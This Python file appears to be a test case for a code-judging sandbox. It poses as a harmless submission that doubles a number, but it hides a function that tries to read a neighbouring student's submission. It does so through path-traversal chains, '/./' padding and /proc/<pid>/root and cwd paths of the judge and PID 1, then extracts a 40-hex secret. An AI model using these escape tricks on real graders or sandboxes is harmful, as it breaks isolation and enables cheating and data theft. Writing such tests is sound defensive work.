"""Copy another student's submission, which lies next to its own, by roundabout paths.

double: pass
secret: wrong
program: pass wrong
unconfined: gained
"""

import os
import re

from stage import JUDGE, NEIGHBOUR


def double(value):
    return value * 2


def names():
    inside = NEIGHBOUR.lstrip("/")
    yield NEIGHBOUR
    yield os.path.relpath(NEIGHBOUR)
    yield os.path.relpath(NEIGHBOUR, os.path.dirname(__file__))
    yield f"{os.path.dirname(__file__)}/../../{'../' * 30}{inside}"
    yield f"//{inside}".replace("/", "/./")
    for process in ("self", "thread-self", os.getppid(), JUDGE, 1):
        yield f"/proc/{process}/root/{inside}"
        yield f"/proc/{process}/cwd/{'../' * 30}{inside}"


def secret():
    for name in names():
        for flags in (os.O_RDONLY, os.O_RDWR, os.O_RDONLY | os.O_NONBLOCK | os.O_NOATIME):
            try:
                return re.search(rb"[0-9a-f]{40}", os.read(os.open(name, flags), 1000))[0].decode()
            except OSError:
                continue


if __name__ == "__main__":
    print(double(int(input())))
